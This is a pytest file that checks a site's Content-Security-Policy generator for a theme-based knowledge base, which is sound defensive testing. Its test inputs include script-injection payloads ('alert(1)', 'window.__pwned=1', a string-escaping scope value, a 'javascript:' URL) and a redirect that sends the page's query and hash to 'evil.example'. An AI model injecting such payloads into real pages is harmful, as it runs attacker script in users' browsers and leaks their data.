"""The Content-Security-Policy written into every page (kb/web/csp.py): the theme's inline scripts are
allowed by hash, nothing inside the page's article ever is, nor any inline script that is not one of
the theme's own, and no 'unsafe-inline' for scripts."""

from __future__ import annotations

import base64
import hashlib
import importlib.util
import re
from pathlib import Path

from kb.web import csp

# Material's own inline scripts, read from the installed theme's templates (partials/javascripts/):
# the storage set-up (scoped to the page's base URL), the tab-state restorer, the tab opener.
MATERIAL_SCRIPTS = Path(importlib.util.find_spec("material").origin).parent / "templates" / "partials" / "javascripts"


def _material_scripts(scope: str) -> list[str]:
    scripts = []
    for name in ("base.html", "content.html"):
        scripts += re.findall(r"<script>(.*?)</script>", (MATERIAL_SCRIPTS / name).read_text(encoding="utf-8"), re.DOTALL)
    return [re.sub(r"\{\{[^}]*\}\}", scope, text) for text in scripts]


MD_SCOPE, MD_TABS, MD_TAB_TARGET = _material_scripts(".")
PAGE = f"""<!doctype html><html lang="zh-CN"><head><meta charset="utf-8">
<script>{MD_SCOPE}</script>
<script id="__config" type="application/json">{{"base": "."}}</script>
<script src="assets/kb.js"></script>
</head><body><article class="md-content__inner md-typeset"><p>x</p><script>window.__pwned=1</script></article>
<script>{MD_TABS}</script></body></html>"""


def _sha(text: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(text.encode()).digest()).decode() + "'"


def _directives(html: str) -> dict[str, str]:
    content = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', html).group(1)
    return dict(part.strip().split(" ", 1) for part in content.split(";"))


def test_theme_scripts_are_allowed_by_hash_and_content_scripts_never():
    policy = _directives(csp.add_policy(PAGE))
    script_src = policy["script-src"].split()
    assert script_src[0] == "'self'"
    assert _sha(MD_SCOPE) in script_src
    assert _sha(MD_TABS) in script_src
    assert len(script_src) == 3
    assert _sha("window.__pwned=1") not in script_src  # inside <article>: content, never allowed
    assert _sha('{"base": "."}') not in script_src  # JSON data is not a script
    assert "'unsafe-inline'" not in policy["script-src"] and "'unsafe-eval'" not in policy["script-src"]
    assert policy["object-src"] == "'none'" and policy["frame-src"] == "'none'" and policy["base-uri"] == "'self'"


def test_the_policy_is_the_first_element_of_head():
    html = csp.add_policy(PAGE)
    head = html[html.index("<head>") + len("<head>"):].lstrip()
    assert head.startswith('<meta http-equiv="Content-Security-Policy"')


def test_media_may_come_from_the_configured_media_host_only():
    assert _directives(csp.add_policy(PAGE, "https://media.example.org.cn/kb/"))["media-src"] == \
        "'self' https://media.example.org.cn"
    assert _directives(csp.add_policy(PAGE, None))["media-src"] == "'self'"
    assert _directives(csp.add_policy(PAGE, "javascript:alert(1)"))["media-src"] == "'self'"


TRICKY = [
    PAGE,
    PAGE.replace("<script>var tabs", "<SCRIPT type=\"text/javascript\">var tabs").replace("</script></body>", "</SCRIPT></body>"),
    PAGE.replace("<script src=", "<script data-x=\"a>b\" src="),  # a quoted '>': read by the full parser
    PAGE.replace("</article>", "<pre>&lt;script&gt;no&lt;/script&gt;</pre></article>"),
    PAGE.replace("<script>var tabs=__md_get(\"__tabs\")</script>", "<script type=\"module\">import './a.js'</script>"),
    "<html><head><script>only()</script></head><body>no article</body></html>",
    "<html><head><script>unclosed()",
]


def test_reading_only_the_script_tags_finds_what_parsing_the_whole_page_finds():
    for html in TRICKY:
        assert csp.inline_scripts(html) == csp.inline_scripts_parsed(html), html


def test_scripts_inside_the_article_are_never_read_by_the_fast_path():
    assert "window.__pwned=1" not in csp.inline_scripts(PAGE)
    assert csp.inline_scripts(PAGE) == [MD_SCOPE, MD_TABS]


INJECTED_HEAD = [
    "window.__pwned='description'",  # front matter printed raw into <head>
    'window.location.replace(["https://evil.example/",window.location.search,window.location.hash].join(""))',
    '__md_scope=new URL("x",location),alert(1)',  # the theme's set-up with something after it
    MD_SCOPE.replace('"."', '"x\\"+alert(1)+\\""'),  # a scope that leaves its string
    MD_TABS + ";alert(1)",
]


def test_an_inline_script_outside_the_article_is_hashed_only_when_it_is_the_themes_own():
    for text in INJECTED_HEAD:
        page = PAGE.replace("</head>", f"<script>{text}</script></head>")
        script_src = _directives(csp.add_policy(page))["script-src"].split()
        assert text in csp.inline_scripts(page)  # found outside the article ...
        assert _sha(text) not in script_src, text  # ... and not allowed
        assert sorted(script_src) == sorted(["'self'", _sha(MD_SCOPE), _sha(MD_TABS)])


def test_the_allow_list_matches_the_installed_themes_scripts():
    """Material's scripts as installed, printed for pages at any depth and for the 404 page: an
    upgrade that changes them fails here, not in a reader's browser."""
    for scope in (".", "..", "../../..", "/", "/kb/"):
        scripts = _material_scripts(scope)
        assert len(scripts) == 3
        for text in scripts:
            assert csp.theme_script(text), text[:80]
